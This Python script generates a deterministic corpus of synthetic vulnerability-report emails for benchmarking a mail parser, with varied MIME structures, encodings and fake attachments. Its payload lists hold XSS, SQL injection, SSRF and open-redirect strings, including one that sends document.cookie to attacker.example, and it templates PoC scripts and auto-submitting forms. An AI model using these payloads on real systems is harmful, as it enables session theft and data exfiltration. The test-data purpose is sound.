#!/usr/bin/env python3
"""
NAME
    gen_corpus.py - the report corpus of `make bench-parser`

SYNOPSIS
    gen_corpus.py [-n COUNT] [--seed SEED] DIR

DESCRIPTION
    Writes COUNT (1000) report mails into DIR as report-NNNN.eml, the way
    the milter spools them (LF line ends), and one big message, big.eml.
    The output depends only on COUNT and SEED: two runs give the same
    bytes, so figures of different runs are comparable.

    The reports: sizes spread log-uniformly over 2 to 200 KB; exactly a
    third carry attachments (base64 PoC files: an HTML page, a Python
    script, a PNG-ish image, a zip-ish archive, a pcap-ish capture). The
    structures are mixed: text/plain, multipart/alternative with HTML,
    nested multipart/mixed (alternative inside mixed, related inside
    alternative), quoted-printable bodies, ISO-8859-1 bodies, RFC 2047
    subjects, and forwarded reports (message/rfc822). The text is what a
    researcher writes about an XSS, SQLi, IDOR, SSRF or open redirect:
    URLs, steps, HTTP requests and responses, payloads, curl commands,
    CVSS vectors, CWE and CVE IDs, product versions.

    big.eml is 25 MiB: a report whose text/plain body carries a pasted
    scanner log (about 5 MiB, far past MaxTextBytes) and one pcap
    attachment whose base64 lines take 20 MiB (15 MiB decoded,
    pseudo-random bytes).

    Only the standard library is used; nothing is fetched.
"""

import argparse
import base64
import os
import quopri
import random
import struct
import sys
import zlib

KIB = 1024
MIB = 1024 * 1024
MIN_BYTES = 2 * KIB
MAX_BYTES = 200 * KIB
BIG_BYTES = 25 * MIB
BIG_ATTACHMENT_B64_BYTES = 20 * MIB

# ------------------------------------------------------------ vocabulary

FIRST = ["Alice", "Bob", "Carol", "Dmitri", "Emre", "Fatima", "Giulia", "Hiro",
         "Ines", "Jonas", "Kwame", "Lena", "Mateo", "Nadia", "Olu", "Priya",
         "Quentin", "Rosa", "Sven", "Tomasz", "Uma", "Viktor", "Wen", "Yara"]
FIRST_LATIN1 = ["José", "Françoise", "Jürgen", "Søren", "Zoë", "Andrés",
                "Björn", "Renée", "Ólafur", "Mårten"]
LAST = ["Smith", "Okafor", "Nakamura", "Kowalski", "Ivanova", "Rossi",
        "Haddad", "Schmidt", "Silva", "Kim", "Nguyen", "Petrov", "Larsen"]
LAST_LATIN1 = ["Müller", "Gonçalves", "Ødegård", "Núñez", "Lefèvre",
               "Björklund", "Świątek"]
MAILDOMAINS = ["gmail.example", "proton.example", "researcher.example",
               "bugbounty.example", "sec-lab.example", "infosec.example",
               "uni-example.edu", "hackerone.example"]
TARGETS = ["www.example.com", "shop.example.com", "api.example.com",
           "portal.example.org", "admin.example.net", "cdn.example.com",
           "accounts.example.com", "status.example.io", "m.example.com",
           "billing.example.com", "sso.example.org", "docs.example.com"]
PRODUCTS = [("ExampleShop", "4.2.1"), ("Acme Portal", "2.13.0"),
            ("WidgetCMS", "7.0.3"), ("Example API Gateway", "1.9.12"),
            ("FooServer", "3.4.5"), ("BarAuth", "0.18.2")]
PATHS = ["/search", "/account/profile", "/api/v2/orders", "/admin/users",
         "/cart/checkout", "/download", "/redirect", "/login", "/reports/export",
         "/api/v1/invoices", "/user/settings", "/graphql", "/upload",
         "/wp-content/plugins/gallery/view.php", "/support/ticket"]
PARAMS = ["q", "id", "user_id", "order", "next", "url", "file", "sort",
          "callback", "redirect_uri", "name", "page", "filter", "lang"]
UA = ["Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
      "(KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
      "curl/8.5.0", "python-requests/2.31.0"]

VULNS = {
    "xss": {
        "title": ["Reflected XSS in {path}", "Stored XSS via {param} parameter",
                  "DOM-based XSS on {host}", "Cross-site scripting in search"],
        "cwe": "CWE-79",
        "cvss": "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
        "payloads": ['"><script>alert(document.domain)</script>',
                     "<img src=x onerror=alert(1)>",
                     "javascript:alert(document.cookie)",
                     "<svg/onload=fetch('//attacker.example/'+document.cookie)>",
                     "'-alert(1)-'"],
        "impact": "An attacker can run JavaScript in the victim's session on "
                  "{host}, read the CSRF token and change the account e-mail, "
                  "which leads to a full account takeover.",
    },
    "sqli": {
        "title": ["SQL injection in {path}", "Blind SQLi via {param}",
                  "Time-based SQL injection in the {param} filter"],
        "cwe": "CWE-89",
        "cvss": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
        "payloads": ["1' OR '1'='1' -- -", "1 AND SLEEP(5)",
                     "' UNION SELECT username,password FROM users-- -",
                     "1;SELECT pg_sleep(10)--",
                     "admin'/**/AND/**/1=1#"],
        "impact": "The database behind {host} can be read in full, including "
                  "password hashes and session tokens of all customers.",
    },
    "idor": {
        "title": ["IDOR: any user can read other users' invoices",
                  "Insecure direct object reference in {path}",
                  "Broken access control on {param}"],
        "cwe": "CWE-639",
        "cvss": "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N",
        "payloads": ["user_id=1002", "order=77413", "id=../../1",
                     "{\"account_id\": 4}"],
        "impact": "Any logged-in user can read the personal data (name, "
                  "address, phone, last four card digits) of every other user "
                  "by changing one number.",
    },
    "ssrf": {
        "title": ["SSRF in the URL preview of {path}",
                  "Server-side request forgery via {param}"],
        "cwe": "CWE-918",
        "cvss": "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:N/A:N",
        "payloads": ["http://169.254.169.254/latest/meta-data/",
                     "http://127.0.0.1:8080/admin",
                     "gopher://127.0.0.1:6379/_INFO",
                     "http://[::1]/server-status"],
        "impact": "The server fetches internal URLs; the cloud metadata "
                  "endpoint returns temporary credentials of the instance role.",
    },
    "redirect": {
        "title": ["Open redirect on {host}{path}",
                  "Open redirect via the {param} parameter"],
        "cwe": "CWE-601",
        "cvss": "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:L/I:L/A:N",
        "payloads": ["//attacker.example/", "https:attacker.example",
                     "/\\attacker.example", "https://www.example.com.attacker.example/"],
        "impact": "Phishing links that start with the real domain; chained "
                  "with the OAuth flow it leaks the authorization code.",
    },
}

GREETINGS = ["Hello security team,", "Hi,", "Dear {org} security team,",
             "Hello,", "Good morning,", "To whom it may concern,"]
CLOSINGS = ["Best regards,", "Thanks,", "Kind regards,", "Cheers,",
            "Regards,"]
FILLER = [
    "I found this while testing the application in scope of your public "
    "disclosure policy. I only used my own test accounts and stopped as soon "
    "as the issue was confirmed.",
    "Please let me know if you need any further information, a video of the "
    "reproduction, or a call to walk through it.",
    "I have not shared this with anyone else and will follow your disclosure "
    "timeline. I would appreciate a CVE if the product is distributed.",
    "The issue is still present in the latest version I could test. Older "
    "versions are very likely affected as the vulnerable code has not changed.",
    "The root cause seems to be that the value is concatenated into the query "
    "or template without encoding, instead of being bound as a parameter.",
    "Mitigation: encode output for the context it is written to, bind "
    "parameters in SQL, and check on the server that the object belongs to "
    "the session's user.",
    "Timeline: discovered two days ago, confirmed yesterday, reported today. "
    "I plan to publish a write-up 90 days after this report unless we agree "
    "otherwise.",
    "Note that the WAF blocks the obvious payload but not the variant with a "
    "comment between the keywords, so it should not be relied on.",
]


def pick(rng, seq):
    return seq[rng.randrange(len(seq))]


# ------------------------------------------------------------ text pieces

def http_request(rng, host, path, param, payload, method=None):
    method = method or pick(rng, ["GET", "POST", "GET", "PUT"])
    lines = []
    if method == "GET":
        lines.append("GET %s?%s=%s HTTP/1.1" % (path, param, payload))
    else:
        lines.append("%s %s HTTP/1.1" % (method, path))
    lines += ["Host: " + host,
              "User-Agent: " + pick(rng, UA),
              "Accept: text/html,application/json;q=0.9,*/*;q=0.8",
              "Cookie: session=%032x; csrftoken=%016x" % (rng.getrandbits(128),
                                                         rng.getrandbits(64)),
              "Connection: close"]
    if method != "GET":
        body = "%s=%s&submit=1" % (param, payload)
        lines += ["Content-Type: application/x-www-form-urlencoded",
                  "Content-Length: %d" % len(body), "", body]
    return "\n".join(lines) + "\n"


def http_response(rng, payload):
    body = ("<html><head><title>Results</title></head><body>\n"
            "<h1>Search results for %s</h1>\n<p>No results.</p>\n"
            "</body></html>" % payload)
    return ("HTTP/1.1 200 OK\nServer: nginx/1.24.0\nDate: Tue, 03 Mar 2026 "
            "10:%02d:%02d GMT\nContent-Type: text/html; charset=utf-8\n"
            "Content-Length: %d\nSet-Cookie: tracking=%08x; Path=/\n\n%s\n"
            % (rng.randrange(60), rng.randrange(60), len(body),
               rng.getrandbits(32), body))


def curl_line(rng, host, path, param, payload):
    return ("curl -sk -X %s 'https://%s%s' -H 'Cookie: session=%032x' "
            "--data-urlencode '%s=%s'\n"
            % (pick(rng, ["GET", "POST"]), host, path, rng.getrandbits(128),
               param, payload))


def log_block(rng, host, lines):
    out = []
    for _ in range(lines):
        out.append("%d.%d.%d.%d - - [03/Mar/2026:10:%02d:%02d +0000] \"GET %s?%s=%d "
                   "HTTP/1.1\" %d %d \"-\" \"%s\"" % (
                       rng.randrange(1, 255), rng.randrange(255),
                       rng.randrange(255), rng.randrange(1, 255),
                       rng.randrange(60), rng.randrange(60), pick(rng, PATHS),
                       pick(rng, PARAMS), rng.randrange(100000),
                       pick(rng, [200, 200, 302, 403, 404, 500]),
                       rng.randrange(200, 90000), pick(rng, UA)))
    return "\n".join(out) + "\n"


def stack_trace(rng):
    frames = ["  at com.example.shop.db.QueryBuilder.where(QueryBuilder.java:%d)",
              "  at com.example.shop.web.SearchController.search(SearchController.java:%d)",
              "  at org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:%d)",
              "  at javax.servlet.http.HttpServlet.service(HttpServlet.java:%d)",
              "  at org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:%d)"]
    out = ["org.postgresql.util.PSQLException: ERROR: unterminated quoted "
           "string at or near \"'1'' LIMIT 20\"", "  Position: %d" % rng.randrange(20, 90)]
    for _ in range(rng.randrange(4, 14)):
        out.append(pick(rng, frames) % rng.randrange(20, 900))
    return "\n".join(out) + "\n"


class Report:
    """One researcher's report: who, what, where; texts built on demand."""

    def __init__(self, rng, latin1):
        self.rng = rng
        self.latin1 = latin1
        if latin1:
            self.first = pick(rng, FIRST_LATIN1)
            self.last = pick(rng, LAST_LATIN1 + LAST)
            if self.last == "Świątek":
                self.last = "Lefèvre"
        else:
            self.first = pick(rng, FIRST + FIRST_LATIN1)
            self.last = pick(rng, LAST + LAST_LATIN1)
        self.addr = "%s.%s%d@%s" % (ascii_fold(self.first).lower(),
                                    ascii_fold(self.last).lower(),
                                    rng.randrange(100), pick(rng, MAILDOMAINS))
        self.kind = pick(rng, list(VULNS))
        self.v = VULNS[self.kind]
        self.host = pick(rng, TARGETS)
        self.path = pick(rng, PATHS)
        self.param = pick(rng, PARAMS)
        self.product, self.version = pick(rng, PRODUCTS)
        t = pick(rng, self.v["title"])
        self.subject = t.format(path=self.path, param=self.param, host=self.host)
        if rng.random() < 0.3:
            self.subject = "[Security] " + self.subject
        if rng.random() < 0.15:
            self.subject += " \u2014 %s %s" % (self.product, self.version)
        self.cve = ("CVE-20%d-%d" % (rng.randrange(19, 27), rng.randrange(1000, 99999))
                    if rng.random() < 0.2 else None)

    def intro(self):
        rng = self.rng
        p = [pick(rng, GREETINGS).format(org="Example"), ""]
        p.append("I would like to report a %s vulnerability (%s) in %s %s, "
                 "reachable at https://%s%s." % (
                     self.kind.upper() if self.kind != "redirect" else "open redirect",
                     self.v["cwe"], self.product, self.version, self.host,
                     self.path))
        if self.latin1 or rng.random() < 0.3:
            p.append("Je l'ai trouvé pendant une évaluation ; the café wifi "
                     "portal of the same vendor has the same problème. Grüße "
                     "from %s." % self.first)
        elif rng.random() < 0.3:
            p.append("Severity is high \u2014 it needs no special rights "
                     "\u2026 and the fix is small \u2713.")
        if self.cve:
            p.append("It looks related to %s but the patch for that one "
                     "does not cover this endpoint." % self.cve)
        p.append("")
        p.append("Suggested score: %s" % self.v["cvss"])
        p.append("")
        return "\n".join(p) + "\n"

    def section(self):
        """One more piece of the body; called until the size is reached."""
        rng = self.rng
        payload = pick(rng, self.v["payloads"])
        r = rng.random()
        if r < 0.22:
            steps = ["Steps to reproduce:", "",
                     "1. Log in at https://%s/login with a test account." % self.host,
                     "2. Open https://%s%s?%s=%s" % (self.host, self.path,
                                                    self.param, payload),
                     "3. Observe the result described below.",
                     "4. Repeat with a second account to confirm.", ""]
            return "\n".join(steps) + "\n"
        if r < 0.42:
            return ("Request:\n\n" + indent(http_request(rng, self.host, self.path,
                                                          self.param, payload))
                    + "\nResponse:\n\n" + indent(http_response(rng, payload)) + "\n")
        if r < 0.52:
            return ("```\n" + curl_line(rng, self.host, self.path, self.param,
                                        payload) + "```\n\n")
        if r < 0.62:
            return "Impact:\n\n" + self.v["impact"].format(host=self.host) + "\n\n"
        if r < 0.72:
            return "Server log excerpt:\n\n" + log_block(rng, self.host,
                                                         rng.randrange(5, 30)) + "\n"
        if r < 0.78 and self.kind == "sqli":
            return "Error shown by the application:\n\n" + indent(stack_trace(rng)) + "\n"
        return pick(rng, FILLER) + "\n\n"

    def closing(self):
        return "\n%s\n%s %s\n" % (pick(self.rng, CLOSINGS), self.first, self.last)


def indent(s):
    return "".join("    " + line + "\n" for line in s.splitlines())


def ascii_fold(s):
    table = {"é": "e", "è": "e", "ç": "c", "ü": "u", "ø": "o", "Ø": "O",
             "ë": "e", "ó": "o", "ñ": "n", "ö": "o", "å": "a", "á": "a",
             "ú": "u", "Ó": "O", "Ś": "S", "ą": "a", "ß": "ss", "ã": "a",
             "í": "i"}
    return "".join(table.get(c, c) for c in s)


def body_text(rep, text_bytes):
    parts = [rep.intro()]
    n = len(parts[0])
    while n < text_bytes:
        s = rep.section()
        parts.append(s)
        n += len(s)
    parts.append(rep.closing())
    return "".join(parts)


def to_html(text):
    out = ["<html><head><meta charset=\"utf-8\"><style>pre{background:#eee}"
           "</style></head><body>"]
    in_pre = False
    for line in text.split("\n"):
        esc = line.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        if line.startswith("    ") or line.startswith("```"):
            if not in_pre:
                out.append("<pre>")
                in_pre = True
            if not line.startswith("```"):
                out.append(esc[4:])
            continue
        if in_pre:
            out.append("</pre>")
            in_pre = False
        if line.startswith("https://") or " https://" in line:
            words = []
            for w in esc.split(" "):
                if w.startswith("https://"):
                    w = '<a href="%s">%s</a>' % (w, w)
                words.append(w)
            esc = " ".join(words)
        out.append("<p>%s</p>" % esc if esc else "<br>")
    if in_pre:
        out.append("</pre>")
    out.append("</body></html>")
    return "\n".join(out) + "\n"


# ------------------------------------------------------------ attachments

def att_html(rng, rep, n):
    head = ("<!DOCTYPE html>\n<html><body>\n<h1>PoC for %s</h1>\n"
            "<form id=f action=\"https://%s%s\" method=POST>\n"
            "<input name=\"%s\" value='%s'>\n</form>\n"
            "<script>document.getElementById('f').submit();</script>\n"
            % (rep.subject, rep.host, rep.path, rep.param,
               pick(rng, rep.v["payloads"])))
    pad = []
    size = len(head)
    while size < n:
        s = "<!-- %s -->\n" % pick(rng, FILLER)
        pad.append(s)
        size += len(s)
    return ("poc.html", "text/html", (head + "".join(pad) + "</body></html>\n").encode())


def att_py(rng, rep, n):
    head = ("#!/usr/bin/env python3\n\"\"\"PoC: %s\"\"\"\nimport requests\n\n"
            "TARGET = 'https://%s%s'\nPAYLOADS = [\n" % (rep.subject, rep.host, rep.path))
    lines = [head]
    size = len(head)
    while size < n - 200:
        s = "    %r,\n" % pick(rng, rep.v["payloads"])
        lines.append(s)
        size += len(s)
    lines.append("]\n\nfor p in PAYLOADS:\n    r = requests.get(TARGET, params={%r: p},"
                 " timeout=10)\n    print(p, r.status_code, len(r.text))\n" % rep.param)
    return ("exploit.py", "text/x-python", "".join(lines).encode())


def att_png(rng, rep, n):
    data = bytearray(b"\x89PNG\r\n\x1a\n")
    ihdr = struct.pack(">IIBBBBB", 1280, 720, 8, 2, 0, 0, 0)
    data += struct.pack(">I", len(ihdr)) + b"IHDR" + ihdr + struct.pack(">I", zlib.crc32(b"IHDR" + ihdr))
    idat = rng.randbytes(max(16, n - len(data) - 24))
    data += struct.pack(">I", len(idat)) + b"IDAT" + idat + struct.pack(">I", zlib.crc32(b"IDAT" + idat))
    data += struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    return ("screenshot.png", "image/png", bytes(data))


def att_zip(rng, rep, n):
    names = [b"poc/exploit.py", b"poc/README.txt", b"poc/payloads.txt", b"poc/video.mp4"]
    body = bytearray()
    central = bytearray()
    per = max(64, (n - 300) // len(names))
    for name in names:
        content = rng.randbytes(per)
        crc = zlib.crc32(content)
        off = len(body)
        body += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0, crc,
                            len(content), len(content) * 3, len(name), 0) + name + content
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, 8, 0, 0,
                               crc, len(content), len(content) * 3, len(name),
                               0, 0, 0, 0, 0, off) + name
    end = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(names), len(names),
                      len(central), len(body), 0)
    return ("poc.zip", "application/zip", bytes(body + central + end))


def att_pcap(rng, rep, n, name="capture.pcap"):
    out = bytearray(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 65535, 1))
    chunk = rng.randbytes(n)
    pos = 0
    t = 1772531000
    while len(out) < n:
        ln = 60 + (pos * 7919) % 1400
        pkt = chunk[pos % max(1, n - 1500):][:ln]
        pos += ln
        t += 1
        out += struct.pack("<IIII", t, pos % 1000000, len(pkt), len(pkt)) + pkt
    return (name, "application/vnd.tcpdump.pcap", bytes(out[:n]))


ATTACHMENT_KINDS = [att_html, att_py, att_png, att_zip, att_pcap]


# ------------------------------------------------------------ MIME assembly

class Part:
    """A MIME entity as (headers, body bytes) or (headers, children)."""

    def __init__(self, headers, body=b"", children=None, boundary=None):
        self.headers = headers
        self.body = body
        self.children = children
        self.boundary = boundary

    def render(self):
        out = bytearray()
        for k, v in self.headers:
            out += ("%s: %s\n" % (k, v)).encode("ascii")
        out += b"\n"
        if self.children is None:
            out += self.body
            if not self.body.endswith(b"\n"):
                out += b"\n"
            return bytes(out)
        out += b"This is a multi-part message in MIME format.\n"
        for c in self.children:
            out += b"\n--" + self.boundary.encode() + b"\n" + c.render()
        out += b"\n--" + self.boundary.encode() + b"--\n"
        return bytes(out)


def text_part(rng, text, subtype, latin1, force_qp=False):
    charset = "iso-8859-1" if latin1 else pick(rng, ["utf-8", "utf-8", "UTF-8", "us-ascii"])
    if charset == "us-ascii" and not text.isascii():
        charset = "utf-8"
    raw = text.encode("latin-1", "replace") if latin1 else text.encode("utf-8")
    if force_qp or (not raw.isascii() and rng.random() < 0.6):
        cte = "quoted-printable"
        body = quopri.encodestring(raw)
    elif raw.isascii():
        cte = pick(rng, ["7bit", "7bit", None])
        body = raw
    else:
        cte = "8bit"
        body = raw
    h = [("Content-Type", "text/%s; charset=%s" % (subtype, charset))]
    if cte:
        h.append(("Content-Transfer-Encoding", cte))
    return Part(h, body)


def attachment_part(rng, name, ctype, data):
    b64 = base64.encodebytes(data)
    disp = pick(rng, ['attachment; filename="%s"' % name, "attachment; filename=%s" % name,
                      'inline; filename="%s"' % name])
    return Part([("Content-Type", '%s; name="%s"' % (ctype, name)),
                 ("Content-Disposition", disp),
                 ("Content-Transfer-Encoding", "base64")], b64)


def boundary(rng):
    return pick(rng, ["=_Part_%d_%d.%d", "----=_NextPart_000_%04X_%08X.%d",
                      "b1_%x%x%x"]) % (rng.randrange(1 << 16), rng.randrange(1 << 30),
                                       rng.randrange(1 << 20))


def multipart(rng, subtype, children):
    b = boundary(rng)
    return Part([("Content-Type", 'multipart/%s; boundary="%s"' % (subtype, b))],
                children=children, boundary=b)


def encode_subject(rng, s):
    if s.isascii() and rng.random() < 0.9:
        return s
    raw = s.encode("utf-8")
    if rng.random() < 0.5:
        return "=?UTF-8?B?%s?=" % base64.b64encode(raw).decode()
    q = "".join(chr(c) if (chr(c).isalnum() and c < 128) else "=%02X" % c for c in raw)
    return "=?utf-8?Q?%s?=" % q


def top_headers(rng, rep, n, mime_part):
    name = "%s %s" % (rep.first, rep.last)
    if not name.isascii():
        name = "=?UTF-8?B?%s?=" % base64.b64encode(name.encode()).decode()
    else:
        name = '"%s"' % name
    day = 1 + n % 28
    h = [("Return-Path", "<%s>" % rep.addr),
         ("Received", "from mail.%s (mail.%s [192.0.2.%d])\n\tby mx.example.com "
          "(Postfix) with ESMTPS id 4Z%07X\n\tfor <security@example.com>; "
          "Tue, %d Mar 2026 10:%02d:%02d +0000 (UTC)" % (
              rep.addr.split("@")[1], rep.addr.split("@")[1], 1 + n % 250, n * 7919,
              day, n % 60, (n * 7) % 60)),
         ("Authentication-Results", "mx.example.com; dkim=pass header.d=%s; "
          "spf=pass smtp.mailfrom=%s; dmarc=pass" % (rep.addr.split("@")[1], rep.addr)),
         ("DKIM-Signature", "v=1; a=rsa-sha256; c=relaxed/relaxed; d=%s; s=s1;\n\t"
          "h=from:to:subject:date:message-id; bh=%s;\n\tb=%s" % (
              rep.addr.split("@")[1], base64.b64encode(rng.randbytes(32)).decode(),
              base64.b64encode(rng.randbytes(128)).decode())),
         ("From", "%s <%s>" % (name, rep.addr)),
         ("To", "security@example.com"),
         ("Subject", encode_subject(rng, rep.subject)),
         ("Date", "Tue, %d Mar 2026 10:%02d:%02d +0100" % (day, n % 60, (n * 7) % 60)),
         ("Message-ID", "<%016x.%d@%s>" % (rng.getrandbits(64), n, rep.addr.split("@")[1])),
         ("MIME-Version", "1.0")]
    if rng.random() < 0.2:
        h.append(("X-Mailer", pick(rng, ["Thunderbird 128.3.0", "Apple Mail (2.3774)",
                                          "Microsoft Outlook 16.0"])))
    return h + mime_part.headers


def build_body(rng, rep, text_bytes, structure, attachments):
    """The MIME tree of one report; text_bytes sizes the prose."""
    text = body_text(rep, text_bytes)
    latin1 = rep.latin1
    qp = structure == "qp"
    if structure in ("alternative", "nested"):
        plain = text_part(rng, text, "plain", latin1, qp)
        html = text_part(rng, to_html(text), "html", latin1, rng.random() < 0.3)
        if structure == "nested":
            png = att_png(rng, rep, rng.randrange(1500, 6000))
            img = attachment_part(rng, "logo.png", "image/png", png[2])
            img.headers = [("Content-Type", "image/png"),
                           ("Content-ID", "<logo@%s>" % rep.host),
                           ("Content-Transfer-Encoding", "base64")]
            html = multipart(rng, "related", [html, img])
        body = multipart(rng, "alternative", [plain, html])
    else:
        body = text_part(rng, text, "plain", latin1, qp)
    if attachments:
        parts = [body] + [attachment_part(rng, *a) for a in attachments]
        if structure == "nested" and len(parts) > 2:
            body = multipart(rng, "mixed", [parts[0], multipart(rng, "mixed", parts[1:])])
        else:
            body = multipart(rng, "mixed", parts)
    return body


def render_message(headers, part):
    out = bytearray()
    for k, v in headers:
        out += ("%s: %s\n" % (k, v)).encode("ascii")
    out += b"\n"
    if part.children is None:
        out += part.body
        if not part.body.endswith(b"\n"):
            out += b"\n"
    else:
        out += part.render().split(b"\n\n", 1)[1]
    return bytes(out)


def make_report(seed, n, target, has_att):
    """One message of about target bytes; deterministic in (seed, n)."""
    structure_rng = random.Random("%d/%d/shape" % (seed, n))
    structure = pick(structure_rng, ["plain", "plain", "alternative", "alternative",
                                      "nested", "qp"])
    latin1 = structure_rng.random() < 0.12
    forwarded = structure_rng.random() < 0.1
    n_att = 0
    if has_att:
        n_att = 1 if structure_rng.random() < 0.75 else structure_rng.randrange(2, 4)
    att_share = structure_rng.uniform(0.3, 0.8) if n_att else 0.0
    kinds = [pick(structure_rng, ATTACHMENT_KINDS) for _ in range(n_att)]

    def build(text_bytes):
        rng = random.Random("%d/%d" % (seed, n))
        rep = Report(rng, latin1)
        atts = []
        for k in kinds:
            atts.append(k(rng, rep, max(300, int(target * att_share * 0.74 / n_att))))
        part = build_body(rng, rep, text_bytes, structure, atts)
        if forwarded:
            inner = render_message(top_headers(rng, rep, n, part), part)
            fwd = Report(rng, False)
            note = text_part(rng, "FYI, forwarding a report %s sent to our support "
                             "address.\n\n-- \n%s %s, Support\n" % (rep.first, fwd.first,
                                                                   fwd.last), "plain", False)
            mp = Part([("Content-Type", "message/rfc822"),
                       ("Content-Disposition", "inline")], inner)
            part = multipart(rng, "mixed", [note, mp])
            fwd.subject = "Fwd: " + rep.subject
            fwd.addr = "support-desk@example.com"
            msg = render_message(top_headers(rng, fwd, n, part), part)
        else:
            msg = render_message(top_headers(rng, rep, n, part), part)
        return msg

    # Fit the prose to the target: build, measure, correct by the slope
    # between the last two builds (secant). A section of prose can be
    # a few KB, so keep the closest build within 2..200 KB.
    text_bytes = target // 3
    prev = None
    best = None
    for _ in range(12):
        msg = build(text_bytes)
        if MIN_BYTES <= len(msg) <= MAX_BYTES and (
                best is None or abs(len(msg) - target) < abs(len(best) - target)):
            best = msg
        if best is not None and abs(len(best) - target) <= target * 0.05:
            break
        slope = 1.5
        if prev and prev[0] != text_bytes and prev[1] != len(msg):
            slope = max(0.5, min(4.0, (len(msg) - prev[1]) / (text_bytes - prev[0])))
        prev = (text_bytes, len(msg))
        text_bytes = max(50, int(text_bytes + (target - len(msg)) / slope))
    for _ in range(20):
        if best is not None:
            break
        text_bytes = text_bytes * 2 if len(msg) < MIN_BYTES else text_bytes // 2
        msg = build(text_bytes)
        if MIN_BYTES <= len(msg) <= MAX_BYTES:
            best = msg
    msg = best if best is not None else msg
    return msg, structure, latin1, forwarded, n_att


def make_big(seed):
    """25 MiB: a pasted scanner log (about 5 MiB) and a 20 MiB base64 pcap."""
    rng = random.Random("%d/big" % seed)
    rep = Report(rng, False)
    rep.subject = "Pre-auth RCE in the upload service, full capture attached"
    decoded = BIG_ATTACHMENT_B64_BYTES // 77 * 57
    att = att_pcap(rng, rep, decoded, "traffic-full.pcap")
    head = body_text(rep, 20 * KIB)
    log = []
    size = 0
    while size < 6 * MIB:
        s = log_block(rng, rep.host, 200)
        log.append(s)
        size += len(s)
    text_full = head + "\nFull scanner log follows:\n\n" + "".join(log)
    att_p = attachment_part(rng, *att)
    def assemble(raw):
        arng = random.Random("%d/big-assemble" % seed)
        text = Part([("Content-Type", "text/plain; charset=utf-8"),
                     ("Content-Transfer-Encoding", "8bit")], raw)
        part = multipart(arng, "mixed", [text, att_p])
        return render_message(top_headers(arng, rep, 0, part), part)

    # Cut the pasted log so that the message is BIG_BYTES exactly.
    raw = text_full.encode("utf-8")
    keep = BIG_BYTES - (len(assemble(raw)) - len(raw))
    raw = raw[:keep - 1] + b"\n"
    msg = assemble(raw)
    if len(msg) != BIG_BYTES:
        sys.exit("gen_corpus: big.eml is %d bytes, not %d" % (len(msg), BIG_BYTES))
    return msg


def main():
    ap = argparse.ArgumentParser(description="write the bench-parser corpus")
    ap.add_argument("dir")
    ap.add_argument("-n", "--count", type=int, default=1000)
    ap.add_argument("--seed", type=int, default=20260303)
    ap.add_argument("--no-big", action="store_true", help="skip big.eml")
    a = ap.parse_args()

    os.makedirs(a.dir, exist_ok=True)
    rng = random.Random(a.seed)
    n_att = a.count // 3
    with_att = [True] * n_att + [False] * (a.count - n_att)
    rng.shuffle(with_att)
    log_min, log_max = 0.0, 1.0
    total = 0
    stats = {}
    for i in range(a.count):
        u = rng.uniform(log_min, log_max)
        target = int(MIN_BYTES * (MAX_BYTES * 0.97 / MIN_BYTES) ** u)
        target = max(MIN_BYTES + 256, target)
        msg, structure, latin1, fwd, natt = make_report(a.seed, i, target, with_att[i])
        if len(msg) > MAX_BYTES or len(msg) < MIN_BYTES:
            sys.exit("gen_corpus: report %d is %d bytes, outside %d..%d"
                     % (i, len(msg), MIN_BYTES, MAX_BYTES))
        with open(os.path.join(a.dir, "report-%04d.eml" % i), "wb") as f:
            f.write(msg)
        total += len(msg)
        key = structure + ("+latin1" if latin1 else "") + ("+fwd" if fwd else "")
        stats[key] = stats.get(key, 0) + 1
    if not a.no_big:
        big = make_big(a.seed)
        with open(os.path.join(a.dir, "big.eml"), "wb") as f:
            f.write(big)
    print("gen_corpus: %d reports, %.1f MiB, %d with attachments%s"
          % (a.count, total / MIB, n_att,
             "" if a.no_big else ", big.eml %.1f MiB" % (len(big) / MIB)))
    print("gen_corpus: " + ", ".join("%s %d" % kv for kv in sorted(stats.items())))


if __name__ == "__main__":
    main()
